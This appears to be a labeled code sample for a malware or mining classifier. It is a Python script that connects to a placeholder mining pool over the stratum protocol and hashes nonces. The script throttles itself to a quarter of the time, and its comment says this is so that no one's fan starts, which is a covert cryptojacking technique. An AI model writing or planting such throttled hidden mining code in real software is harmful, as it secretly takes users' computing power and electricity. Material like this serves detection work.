# class: mining; possible: low medium
# hashes a quarter of the time, so that nobody's fan starts
import hashlib, itertools, json, socket, time
s = socket.socket(); s.connect(("pool.coin.test", 3333)); f = s.makefile("rw")
def send(i, m, p):
    f.write(json.dumps(dict(id=i, method=m, params=p)) + "\n"); f.flush()
send(1, "mining.subscribe", ["bfg/5.5"]); send(2, "mining.authorize", ["w", "x"])
for _ in range(4): f.readline()
nonce = itertools.count(); stop = time.time() + 60; hit = 0
while time.time() < stop:
    t = time.time()
    while time.time() - t < 0.25:
        for n in itertools.islice(nonce, 2000):
            d = hashlib.sha256(hashlib.sha256(b"\x01" * 76 + n.to_bytes(4, "little")).digest()).digest()
            if d.endswith(b"\0\0"): hit = n
    if hit:
        send(3, "mining.submit", ["w", "j1", "00000000", "5e9a1b2c", "%08x" % hit]); f.readline(); hit = 0
    time.sleep(0.75)
